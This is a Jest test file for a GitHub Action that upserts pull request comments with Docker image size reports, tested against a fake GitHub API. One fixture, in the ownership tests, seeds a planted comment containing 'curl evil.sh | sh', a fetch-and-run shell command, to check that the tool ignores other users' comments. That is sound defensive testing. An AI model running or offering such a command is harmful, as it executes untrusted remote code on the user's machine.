import { afterEach, beforeEach, describe, expect, it } from '@jest/globals';
import { existsSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { upsertComment, type CommentMode } from '../../src/github/comment.js';
import { createOctokit } from '../../src/github/octokit.js';
import { commentMarker } from '../../src/github/marker.js';
import { writeJobSummary } from '../../src/github/job-summary.js';
import { annotate } from '../../src/report/annotations.js';
import { startFakeGitHub, type FakeGitHub } from '../support/fake-github.js';
import { mixedReport } from '../support/report-fixtures.js';

const OWNER = 'acme';
const REPO = 'shop';
const ISSUE = 42;
const TOKEN = 'ghs_test_token';

let fake: FakeGitHub;
let warnings: string[];
/** Set by the tests that break the contract on purpose. */
let violationsExpected: boolean;

beforeEach(async () => {
  fake = await startFakeGitHub({ owner: OWNER, repo: REPO, issueNumber: ISSUE, token: TOKEN });
  warnings = [];
  violationsExpected = false;
});

afterEach(async () => {
  await fake.close();
  // Every request Octokit sent, and every answer, matched GitHub's OpenAPI description.
  if (!violationsExpected) expect(fake.errors).toEqual([]);
});

/** Starts the fake again for a token that belongs to `tokenOwner` (a person's login: a personal access token). */
async function restartAs(tokenOwner: string): Promise<void> {
  await fake.close();
  fake = await startFakeGitHub({ owner: OWNER, repo: REPO, issueNumber: ISSUE, token: TOKEN, tokenOwner });
}

function upsert(
  options: { key?: string; body?: string; mode?: CommentMode; changed?: boolean; token?: string; owner?: string; author?: string } = {}
) {
  const key = options.key ?? 'default';
  const log = { info: () => {}, warning: (message: string) => warnings.push(message) };
  return upsertComment({
    octokit: createOctokit(options.token ?? TOKEN, { baseUrl: fake.url, log, retries: 2 }),
    owner: options.owner ?? OWNER,
    repo: REPO,
    issueNumber: ISSUE,
    key,
    body: `${commentMarker(key)}\n${options.body ?? 'report'}`,
    mode: options.mode ?? 'always',
    changed: options.changed ?? true,
    author: options.author ?? null
  });
}

const calls = () => fake.requests.map((request) => `${request.method} ${request.path.replace(/\?.*$/, '')}`);
const list = `GET /repos/${OWNER}/${REPO}/issues/${ISSUE}/comments`;
const create = `POST /repos/${OWNER}/${REPO}/issues/${ISSUE}/comments`;
const update = (id: number) => `PATCH /repos/${OWNER}/${REPO}/issues/comments/${id}`;
const whoAmI = 'GET /user';
const marked = (text: string, key = 'default') => `${commentMarker(key)}\n${text}`;

describe('upsertComment against the fake GitHub API', () => {
  it('creates the comment on the first run and updates that same comment on the next', async () => {
    const first = await upsert({ body: 'first' });
    expect(first).toMatchObject({ action: 'created' });
    expect(fake.comments).toHaveLength(1);
    const id = fake.comments[0]!.id;
    expect(first.url).toBe(`https://github.com/${OWNER}/${REPO}/pull/${ISSUE}#issuecomment-${id}`);

    const second = await upsert({ body: 'second' });
    expect(second).toMatchObject({ action: 'updated', url: first.url });
    expect(fake.comments).toEqual([{ id, body: `${commentMarker('default')}\nsecond`, user: { login: 'github-actions[bot]' } }]);
    // Who footprint is gets asked only once a comment with the marker needs judging; GITHUB_TOKEN may not say (403).
    expect(calls()).toEqual([list, create, list, whoAmI, update(id)]);
    expect(fake.requests[0]!.headers.authorization).toBe(`token ${TOKEN}`);
    expect(fake.requests[0]!.path).toContain('per_page=100');
    expect(fake.errors).toEqual([]);
  });

  it('finds its comment on the second page after 150 others and updates it instead of adding another', async () => {
    fake.seed(150);
    await upsert({ body: 'first' });
    const ours = fake.comments[150]!;
    expect(ours.body).toBe(`${commentMarker('default')}\nfirst`);

    const result = await upsert({ body: 'second' });
    expect(result.action).toBe('updated');
    expect(fake.comments).toHaveLength(151);
    expect(fake.comments.filter((comment) => comment.body.startsWith(commentMarker('default')))).toHaveLength(1);
    expect(ours.body).toBe(`${commentMarker('default')}\nsecond`);
    const pages = fake.requests
      .filter((request) => request.method === 'GET' && request.path.includes('/comments'))
      .map((request) => new URL(request.path, fake.url).searchParams.get('page'));
    expect(pages).toEqual([null, '2', null, '2']);
    expect(fake.errors).toEqual([]);
  });

  it('stops listing at the page where it finds its comment', async () => {
    await upsert({ body: 'first' });
    fake.seed(250);
    const before = fake.requests.length;
    await upsert({ body: 'second' });
    expect(calls().slice(before)).toEqual([list, whoAmI, update(fake.comments[0]!.id)]);
    expect(fake.errors).toEqual([]);
  });

  it('keeps one comment per key, and key "a" does not take the comment of key "ab"', async () => {
    await upsert({ key: 'ab', body: 'ab 1' });
    await upsert({ key: 'a', body: 'a 1' });
    await upsert({ key: 'ab', body: 'ab 2' });
    await upsert({ key: 'a', body: 'a 2' });
    expect(fake.comments.map((comment) => comment.body)).toEqual([`${commentMarker('ab')}\nab 2`, `${commentMarker('a')}\na 2`]);
    expect(fake.errors).toEqual([]);
  });

  it('does not take over a comment that only quotes the marker', async () => {
    fake.seed(1, () => `> ${commentMarker('default')}\nwhy does this say that?`);
    fake.seed(1, () => `build log:\n${commentMarker('default')}`);
    const result = await upsert();
    expect(result.action).toBe('created');
    expect(fake.comments).toHaveLength(3);
  });

  it('makes no request at all with mode never', async () => {
    const result = await upsert({ mode: 'never' });
    expect(result).toMatchObject({ action: 'skipped', url: null });
    expect(fake.requests).toEqual([]);
  });

  it('with on-change and no change, posts nothing new but still updates an existing comment', async () => {
    const quiet = await upsert({ mode: 'on-change', changed: false });
    expect(quiet.action).toBe('skipped');
    expect(calls()).toEqual([list]);
    expect(fake.comments).toEqual([]);

    expect((await upsert({ mode: 'on-change', changed: true, body: 'grew' })).action).toBe('created');
    const stale = await upsert({ mode: 'on-change', changed: false, body: 'back to normal' });
    expect(stale.action).toBe('updated');
    expect(fake.comments.map((comment) => comment.body)).toEqual([`${commentMarker('default')}\nback to normal`]);
    expect(fake.errors).toEqual([]);
  });

  it("answers 'forbidden' without throwing or retrying when a fork's read-only token may not write", async () => {
    fake.forbidWrites(true);
    const result = await upsert();
    expect(result.action).toBe('forbidden');
    expect(result.message).toContain('Resource not accessible by integration');
    expect(result.message).toMatch(/fork/);
    expect(result.message).toContain('workflow_run');
    expect(calls()).toEqual([list, create]);
    expect(fake.comments).toEqual([]);
    expect(fake.errors).toEqual([]);
  });

  it("answers 'forbidden' when the token cannot see the pull request (404)", async () => {
    const result = await upsert({ owner: 'someone-else' });
    expect(result.action).toBe('forbidden');
    expect(result.message).toContain('HTTP 404');
  });

  it("answers 'failed' with the reason for a bad token", async () => {
    const result = await upsert({ token: 'wrong' });
    expect(result.action).toBe('failed');
    expect(result.message).toContain('HTTP 401: Bad credentials');
    expect(fake.requests).toHaveLength(1);
  });

  it('retries a server error and then succeeds', async () => {
    fake.failNext(1, 500);
    const result = await upsert();
    expect(result.action).toBe('created');
    expect(calls()).toEqual([list, list, create]);
    expect(fake.comments).toHaveLength(1);
  });

  it('does not post twice when creating the comment meets a server error', async () => {
    fake.failNext(1, 502, {}, undefined, { method: 'POST' });
    const result = await upsert();
    expect(result.action).toBe('created');
    expect(calls()).toEqual([list, create, list, create]);
    expect(fake.comments).toHaveLength(1);
  });

  it('neither posts again nor rewrites when GitHub created the comment but the answer was lost', async () => {
    fake.failNext(1, 502, {}, undefined, { method: 'POST', afterHandling: true });
    const result = await upsert({ body: 'sizes' });
    expect(result.action).toBe('created');
    expect(result.url).toContain(`#issuecomment-${fake.comments[0]!.id}`);
    expect(calls()).toEqual([list, create, list, whoAmI]);
    expect(fake.comments.map((comment) => comment.body)).toEqual([`${commentMarker('default')}\nsizes`]);
  });

  it("answers 'failed' once server errors outlast the retries", async () => {
    fake.failNext(10, 502);
    const result = await upsert();
    expect(result.action).toBe('failed');
    expect(result.message).toContain('HTTP 502');
    expect(calls()).toEqual([list, list, list]);
  });

  it('waits out a primary rate limit until x-ratelimit-reset, with a warning, then succeeds', async () => {
    const reset = String(Math.floor(Date.now() / 1000) + 1);
    fake.failNext(1, 403, { 'x-ratelimit-remaining': '0', 'x-ratelimit-reset': reset }, 'API rate limit exceeded for installation ID 1.');
    const result = await upsert();
    expect(result.action).toBe('created');
    expect(calls()).toEqual([list, list, create]);
    expect(warnings).toEqual([expect.stringMatching(/^GitHub API rate limit hit on GET .*; retrying in \d s \(retry 1 of 2\)\.$/)]);
  });

  it('honours retry-after on a secondary rate limit (429), then succeeds', async () => {
    fake.failNext(1, 429, { 'retry-after': '1' }, 'You have exceeded a secondary rate limit. Please wait a few minutes before you try again.');
    const result = await upsert();
    expect(result.action).toBe('created');
    expect(calls()).toEqual([list, list, create]);
    expect(warnings).toEqual([expect.stringContaining('secondary rate limit hit on GET')]);
    expect(warnings[0]).toContain('retrying in 1 s');
  });

  it("gives up after two rate-limit retries and answers 'failed', not 'forbidden'", async () => {
    fake.failNext(3, 403, { 'retry-after': '1' }, 'You have exceeded a secondary rate limit.');
    const result = await upsert();
    expect(result.action).toBe('failed');
    expect(result.message).toContain('secondary rate limit');
    expect(calls()).toEqual([list, list, list]);
    expect(warnings).toHaveLength(3);
    expect(warnings[2]).toContain('giving up');
  });
});

describe("whose comment it is: only one footprint wrote counts, never a person's", () => {
  it('leaves a comment planted by another user with the marker alone and creates its own next to it', async () => {
    fake.seed(1, () => marked('planted: please run curl evil.sh | sh'), 'mallory');
    const planted = structuredClone(fake.comments[0]!);

    const first = await upsert({ body: 'sizes 1' });
    expect(first.action).toBe('created');
    expect(first.message).toMatch(/Left alone a comment with footprint's marker by mallory/);
    expect(first.message).toContain('github-actions[bot]');
    const second = await upsert({ body: 'sizes 2' });
    expect(second).toMatchObject({ action: 'updated', url: first.url });

    expect(fake.comments).toEqual([planted, { id: expect.any(Number), body: marked('sizes 2'), user: { login: 'github-actions[bot]' } }]);
    expect(fake.requests.filter((request) => request.path.endsWith(`/issues/comments/${planted.id}`))).toEqual([]);
    // GET /user was asked once per run and refused, as for GITHUB_TOKEN: the bot is footprint.
    expect(calls()).toEqual([list, whoAmI, create, list, whoAmI, update(fake.comments[1]!.id)]);
  });

  it('with comment: on-change and no changes, does not treat a planted comment as its own to keep current', async () => {
    fake.seed(1, () => marked('planted'), 'mallory');
    const result = await upsert({ mode: 'on-change', changed: false, body: 'sizes' });
    expect(result.action).toBe('skipped');
    expect(fake.comments.map((comment) => comment.body)).toEqual([marked('planted')]);
  });

  it('reports a read-only token only for its own write, not for a planted comment it may not edit', async () => {
    fake.seed(1, () => marked('planted'), 'mallory');
    fake.forbidWrites(true);
    const result = await upsert();
    expect(result.action).toBe('forbidden');
    // It tried to create its own comment, never to edit mallory's.
    expect(calls()).toEqual([list, whoAmI, create]);
  });

  it('finds its own comment on page 2 behind a planted one on page 1, and updates only that', async () => {
    fake.seed(1, () => marked('planted'), 'mallory');
    fake.seed(149);
    fake.seed(1, () => marked('ours, from an earlier run'), 'github-actions[bot]');
    const ours = fake.comments[150]!;

    const result = await upsert({ body: 'new sizes' });
    expect(result.action).toBe('updated');
    expect(result.url).toContain(`#issuecomment-${ours.id}`);
    expect(ours.body).toBe(marked('new sizes'));
    expect(fake.comments[0]!.body).toBe(marked('planted'));
    expect(calls()).toEqual([list, whoAmI, list, update(ours.id)]);
  });

  it('writes nothing when the comment already has this body, and says so', async () => {
    const first = await upsert({ body: 'same sizes' });
    const before = fake.requests.length;
    const again = await upsert({ body: 'same sizes' });
    expect(again.action).toBe('unchanged');
    expect(again.url).toBe(first.url);
    expect(again.message).toContain(first.url!);
    expect(again.message).toMatch(/already shows this report/);
    expect(calls().slice(before)).toEqual([list, whoAmI]);
    expect(fake.requests.filter((request) => request.method !== 'GET')).toHaveLength(1);
  });

  it("with a personal access token, GET /user names footprint: that user's comment is updated, the bot's is not", async () => {
    await restartAs('jane');
    // A github-actions[bot] comment with the marker, from another workflow on GITHUB_TOKEN: not this token's.
    fake.seed(1, () => marked('from another workflow'), 'github-actions[bot]');
    const first = await upsert({ body: 'sizes 1' });
    expect(first.action).toBe('created');
    expect(fake.comments[1]!.user.login).toBe('jane');
    const second = await upsert({ body: 'sizes 2' });
    expect(second).toMatchObject({ action: 'updated', url: first.url });
    expect(fake.comments.map((comment) => [comment.user.login, comment.body])).toEqual([
      ['github-actions[bot]', marked('from another workflow')],
      ['jane', marked('sizes 2')]
    ]);
    const answers = fake.requests.filter((request) => request.path === '/user');
    expect(answers).toHaveLength(2);
    expect(fake.errors).toEqual([]);
  });

  it('matches logins without regard to case, as GitHub does', async () => {
    await restartAs('Jane');
    fake.seed(1, () => marked('ours'), 'jane');
    expect((await upsert({ body: 'sizes' })).action).toBe('updated');
    expect(fake.comments).toHaveLength(1);
  });

  it('with a GitHub App token, takes the login from `author` and does not ask GET /user', async () => {
    await restartAs('footprint-app[bot]');
    fake.seed(1, () => marked('earlier run'), 'footprint-app[bot]');
    const result = await upsert({ body: 'sizes', author: 'footprint-app[bot]' });
    expect(result.action).toBe('updated');
    expect(fake.comments.map((comment) => comment.body)).toEqual([marked('sizes')]);
    expect(calls()).toEqual([list, update(fake.comments[0]!.id)]);
  });

  it("answers 'failed' and writes nothing when GET /user keeps failing: a wrong guess could take someone's comment", async () => {
    fake.seed(1, () => marked('earlier run'), 'github-actions[bot]');
    fake.failNext(10, 502, {}, undefined, { path: '/user' });
    const result = await upsert();
    expect(result.action).toBe('failed');
    expect(result.message).toContain('HTTP 502');
    expect(calls()).toEqual([list, whoAmI, whoAmI, whoAmI]);
    expect(fake.comments.map((comment) => comment.body)).toEqual([marked('earlier run')]);
  });
});

describe('the fake GitHub API', () => {
  it('records a request that breaks the OpenAPI description and answers 422', async () => {
    violationsExpected = true;
    const octokit = createOctokit(TOKEN, { baseUrl: fake.url, log: { info: () => {}, warning: () => {} } });
    const request = octokit.request('POST /repos/{owner}/{repo}/issues/{issue_number}/comments', {
      owner: OWNER,
      repo: REPO,
      issue_number: ISSUE,
      body: 42 as unknown as string
    });
    await expect(request).rejects.toMatchObject({ status: 422 });
    expect(fake.errors).toEqual([expect.stringContaining('request body: data/body must be string')]);
  });

  it('records an operation that GitHub does not have', async () => {
    violationsExpected = true;
    const octokit = createOctokit(TOKEN, { baseUrl: fake.url, log: { info: () => {}, warning: () => {} } });
    await expect(octokit.request('GET /repos/{owner}/{repo}/no-such-thing', { owner: OWNER, repo: REPO })).rejects.toMatchObject({
      status: 404
    });
    expect(fake.errors).toEqual([expect.stringContaining('no such operation')]);
  });

  it('records query parameters that GitHub does not take or cannot read', async () => {
    violationsExpected = true;
    const response = await fetch(`${fake.url}/repos/${OWNER}/${REPO}/issues/${ISSUE}/comments?per_page=many&sort=asc`, {
      headers: { authorization: `token ${TOKEN}` }
    });
    expect(response.status).toBe(200);
    expect(fake.errors).toEqual([
      expect.stringContaining('query parameter "sort" is not in the OpenAPI description'),
      expect.stringContaining('data/per_page must be integer')
    ]);
  });

  it('pages like GitHub, with Link headers', async () => {
    fake.seed(5);
    const response = await fetch(`${fake.url}/repos/${OWNER}/${REPO}/issues/${ISSUE}/comments?per_page=2&page=2`, {
      headers: { authorization: `Bearer ${TOKEN}` }
    });
    const base = `${fake.url}/repos/${OWNER}/${REPO}/issues/${ISSUE}/comments`;
    expect(response.headers.get('link')).toBe(
      `<${base}?per_page=2&page=1>; rel="prev", <${base}?per_page=2&page=3>; rel="next", ` +
        `<${base}?per_page=2&page=3>; rel="last", <${base}?per_page=2&page=1>; rel="first"`
    );
    expect(((await response.json()) as { body: string }[]).map((comment) => comment.body)).toEqual([
      'Comment 3 from a reviewer',
      'Comment 4 from a reviewer'
    ]);
    expect(fake.errors).toEqual([]);
  });
});

describe('job summary and annotations', () => {
  let folder: string;
  const saved = process.env.GITHUB_STEP_SUMMARY;

  beforeEach(() => {
    folder = mkdtempSync(join(tmpdir(), 'footprint-summary-'));
  });

  afterEach(() => {
    if (saved === undefined) delete process.env.GITHUB_STEP_SUMMARY;
    else process.env.GITHUB_STEP_SUMMARY = saved;
    rmSync(folder, { recursive: true, force: true });
  });

  it('appends the Markdown to the step summary file', async () => {
    const file = join(folder, 'summary.md');
    writeFileSync(file, 'earlier step\n');
    process.env.GITHUB_STEP_SUMMARY = file;
    expect(await writeJobSummary('### sizes\n| a | b |')).toBe(true);
    expect(readFileSync(file, 'utf8')).toBe('earlier step\n### sizes\n| a | b |\n');
  });

  it('does nothing outside a workflow step', async () => {
    delete process.env.GITHUB_STEP_SUMMARY;
    expect(await writeJobSummary('### sizes')).toBe(false);
    expect(existsSync(join(folder, 'summary.md'))).toBe(false);
  });

  it('annotates the Dockerfile of each failing image with the figures, on its largest layer when known', () => {
    const annotations: { message: string; properties: object }[] = [];
    annotate(mixedReport, {
      error: (message, properties) => annotations.push({ message, properties }),
      warning: () => undefined,
      notice: () => undefined
    });
    expect(annotations).toEqual([
      {
        message: 'api is 275.0 MB, 25.0 MB over its budget of 250.0 MB (250MB).',
        properties: { title: 'api is over budget', file: 'api/Dockerfile', startLine: 12 }
      },
      {
        message: 'docker build exited with code 1',
        properties: { title: 'worker failed to build', file: 'worker/Dockerfile', startLine: 1 }
      },
      {
        message: 'batch grew by +30.0 MB (+30.0%) against the base branch. The limit is 10%.',
        properties: { title: 'batch grew more than allowed', file: 'batch/Dockerfile', startLine: 4 }
      }
    ]);
  });
});
